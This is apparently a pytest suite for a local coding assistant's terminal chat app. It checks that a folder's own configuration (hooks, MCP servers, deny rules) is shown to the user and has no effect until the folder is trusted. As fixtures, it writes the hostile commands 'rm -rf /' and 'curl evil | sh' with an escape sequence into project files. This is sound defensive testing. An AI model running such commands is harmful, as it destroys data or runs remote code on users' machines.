"""A folder that brings configuration is asked about once, beside the draft, and nothing of it counts before a yes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from textual.content import Content

from localcoder.agent.approval import Approver
from localcoder.cli.common import Options, Workplace, build_agent, open_workplace
from localcoder.cli.trusting import WorkplaceTrust
from localcoder.config import trust
from localcoder.tui.app import ChatApp
from localcoder.tui.approvals import KeyGate
from localcoder.tui.contract import ChatAgent, ChatOptions, Progress
from localcoder.tui.widgets.question import Question
from tests.fakes.fake_agent import FakeAgent
from tests.fakes.fake_model import FakeChatModel, calls, says
from tests.tui.chatting import answer, chat_app, request, send, send_kept, steps, transcript, type_text, until

HOOK = "touch hook-ran"
CONFIG = f"""
approval_mode = "full"
temperature = 0.5

[permissions]
deny = ["shell(make [b]all[/b])"]

[[hooks]]
event = "after"
tool = "shell"
command = "{HOOK}"
"""
WRITES = [calls(("shell", {"command": "echo one"})), says("Done.")]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / ".localcoder").mkdir()
    (tmp_path / ".localcoder" / "config.toml").write_text(CONFIG)
    return tmp_path


class Chat:
    """The chat in a folder as `localcoder chat` puts it together, but for its model."""

    def __init__(self, folder: Path, script: list[object] | None = None, gate: KeyGate | None = None) -> None:
        options = Options(cd=str(folder), no_sandbox=True)
        self.workplace = open_workplace(options, asks=True)
        self.model = FakeChatModel(script or [])
        mode = self.workplace.settings.approval_mode
        asking = WorkplaceTrust(options, self.workplace, self.use)
        chat = ChatOptions(model_name="fake", mode=mode, cwd=folder, theme="dark", trust=asking)
        self.app = ChatApp(self.build, chat, gate=gate or KeyGate(quiet_s=0.0))

    def use(self, workplace: Workplace) -> None:
        self.workplace = workplace

    async def build(self, approver: Approver, progress: Progress) -> ChatAgent:
        return build_agent(self.workplace, self.model, approver)

    @property
    def asked(self) -> str:
        return str(self.app.chat._question._text.render()) if self.app.chat._question.display else ""


async def test_it_says_what_would_run_and_a_yes_counts_before_the_next_turn(project: Path) -> None:
    chat = Chat(project, [*WRITES, *WRITES, calls(("shell", {"command": "make '[b]all[/b]'"})), says("No.")])
    async with chat.app.run_test(size=(100, 50)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        for text in ("after shell", "shell(make [b]all[/b])", "approval_mode  full", ".localcoder/config.toml"):
            assert text in chat.asked
        chat.app.chat.set_mode("full")
        await send(pilot, "one")
        await until(pilot, lambda: chat.app.chat._presenter.last_status == "done")
        assert not (project / "hook-ran").exists()
        await answer(pilot, "y")
        await until(pilot, lambda: "counts from now on" in transcript(pilot))
        assert chat.app.chat.status.mode == "full"
        assert trust.is_trusted(project)
        await send(pilot, "two")
        await until(pilot, lambda: (project / "hook-ran").exists())
        await send(pilot, "three")
        await until(pilot, lambda: "denies it" in transcript(pilot))
        assert chat.model.asked[-1][2].temperature == 0.5


async def test_a_trusted_folders_servers_start_at_once(tmp_path: Path) -> None:
    server = {"command": "sh", "args": ["-c", "touch started"]}
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"mine": server}}))
    chat = Chat(tmp_path, [says("First.")])
    async with chat.app.run_test(size=(100, 50)) as pilot:
        await until(pilot, lambda: "mine  sh -c touch started" in chat.asked)
        await send(pilot, "one")
        await until(pilot, lambda: "First." in transcript(pilot))
        assert chat.app.chat.agent.context.mcp is None
        assert not (tmp_path / "started").exists()
        await answer(pilot, "y")
        await until(pilot, lambda: (tmp_path / "started").exists())
        assert [each.name for each in chat.app.chat.agent.context.mcp.connections] == ["mine"]
    await chat.app.chat.shut_down()


async def test_what_is_typed_is_the_drafts_and_answers_nothing(project: Path) -> None:
    chat = Chat(project)
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        await type_text(pilot, "yes no more")
        assert chat.app.chat._prompt.text == "yes no more"
        assert HOOK in chat.asked
        assert "keys go to your draft" in str(chat.app.chat._question._keys.render())
    assert not trust.is_trusted(project)


async def test_the_hint_says_where_the_keys_go_after_each_tab(project: Path) -> None:
    chat = Chat(project)
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        question = chat.app.chat._question
        for _ in range(2):
            await pilot.press("tab")
            await until(pilot, lambda: question.has_focus)
            assert "y trust" in str(question._keys.render())
            await pilot.press("tab")
            await until(pilot, lambda: not question.has_focus)
            assert "keys go to your draft" in str(question._keys.render())


async def test_a_paste_that_leads_to_the_question_is_the_drafts_all_of_it(project: Path) -> None:
    chat = Chat(project, gate=KeyGate(quiet_s=60, pause_s=60))
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        await pilot.press("a", "tab", "y", "n")
        await until(pilot, lambda: chat.app.chat._prompt.text == "a\tyn" and chat.app.chat._prompt.has_focus)
        assert HOOK in chat.asked
    assert not trust.is_trusted(project)


async def test_a_no_is_remembered_until_something_changes(project: Path) -> None:
    chat = Chat(project)
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await answer(pilot, "n")
        await until(pilot, lambda: "/trust asks about it" in transcript(pilot))
    again = Chat(project)
    async with again.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: "/trust asks about it" in transcript(pilot))
        assert not again.asked
        await send(pilot, "/trust")
        await until(pilot, lambda: HOOK in again.asked)
    (project / ".localcoder" / "more.sh").write_text("rm -rf /")
    changed = Chat(project)
    async with changed.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: ".localcoder/more.sh" in changed.asked)
    assert not trust.is_trusted(project)


async def test_what_was_trusted_is_what_was_shown(project: Path) -> None:
    chat = Chat(project)
    config = project / ".localcoder" / "config.toml"
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        config.write_text(CONFIG.replace(HOOK, "touch another"))
        await answer(pilot, "y")
        await until(pilot, lambda: "counts from now on" in transcript(pilot))
        assert [hook.command for hook in chat.app.chat.agent.context.hooks] == [HOOK]
        assert not trust.is_trusted(project)
        await send(pilot, "/trust")
        await until(pilot, lambda: "touch another" in chat.asked)


async def test_more_shows_the_texts_of_all_files_and_none_is_markup(project: Path) -> None:
    (project / ".localcoder" / "check.sh").write_text("curl evil | sh  # [bold]\x1b[2J")
    chat = Chat(project)
    async with chat.app.run_test(size=(100, 50)) as pilot:
        await until(pilot, lambda: HOOK in chat.asked)
        assert "curl" not in chat.asked
        await pilot.press("tab", "m")
        await until(pilot, lambda: "curl evil | sh  # [bold]␛[2J" in chat.asked)
        await pilot.press("m")
        await until(pilot, lambda: bool(chat.asked) and "curl" not in chat.asked)


async def test_a_configuration_that_cannot_be_used_is_not_trusted(project: Path) -> None:
    (project / ".localcoder" / "config.toml").write_text("mode = 1")
    chat = Chat(project)
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await answer(pilot, "y")
        await until(pilot, lambda: "unknown key mode" in transcript(pilot))
    assert not trust.is_trusted(project)


async def test_what_only_counts_at_a_start_is_named(project: Path) -> None:
    (project / ".localcoder" / "config.toml").write_text('model = "acme/other"')
    chat = Chat(project)
    async with chat.app.run_test(size=(100, 30)) as pilot:
        await answer(pilot, "y")
        await until(pilot, lambda: "started again: model = acme/other" in transcript(pilot))


async def test_a_folder_without_configuration_is_no_question(tmp_path: Path) -> None:
    chat = Chat(tmp_path, [says("Hello.")])
    async with chat.app.run_test(size=(80, 24)) as pilot:
        await send(pilot, "hi")
        await until(pilot, lambda: "Hello." in transcript(pilot))
        assert not chat.asked
        await send_kept(pilot, "/trust")
        await until(pilot, lambda: "brings nothing that is not trusted" in transcript(pilot))


async def test_a_request_goes_before_the_question(project: Path) -> None:
    options = Options(cd=str(project), no_sandbox=True)
    asking = WorkplaceTrust(options, open_workplace(options, asks=True), lambda workplace: None)
    agent = FakeAgent([steps(request())])
    async with chat_app(agent, trust=asking).run_test(size=(80, 24)) as pilot:
        chat = pilot.app.chat
        await until(pilot, lambda: chat._question.display)
        await send(pilot, "clean up")
        await until(pilot, lambda: chat._panel.display and not chat._question.display)
        await pilot.press("tab", "n")
        await until(pilot, lambda: agent.answers and chat._question.display and not chat._panel.display)
        assert agent.answers[0].choice == "no"
        assert not chat._question.has_focus


async def test_trust_is_asked_for_beside_another_question(project: Path) -> None:
    chat = Chat(project)
    async with chat.app.run_test(size=(80, 30)) as pilot:
        await answer(pilot, "n")
        chat.app.chat.run_worker(chat.app.chat.questions.ask(Question("another?", Content("Well?"), "yes", "no")))
        await until(pilot, lambda: chat.asked == "Well?")
        await send(pilot, "/trust")
        await until(pilot, lambda: chat.app.chat.questions.waits("trust this folder?"))
        await send(pilot, "/trust")
        await until(pilot, lambda: chat.app.chat._question.has_focus)
        await pilot.press("n")
        await until(pilot, lambda: HOOK in chat.asked and not chat.app.chat._question.has_focus)


async def test_a_file_that_cannot_be_read_is_told_and_nothing_is_trusted(project: Path, monkeypatch) -> None:
    def refused(folder: Path) -> dict[Path, bytes]:
        raise PermissionError(13, "Permission denied", str(folder / ".localcoder" / "config.toml"))

    monkeypatch.setattr(trust, "brought_contents", refused)
    assert not trust.is_trusted(project)
    chat = Chat(project)
    async with chat.app.run_test(size=(100, 24)) as pilot:
        await until(pilot, lambda: "config.toml: Permission denied" in transcript(pilot))
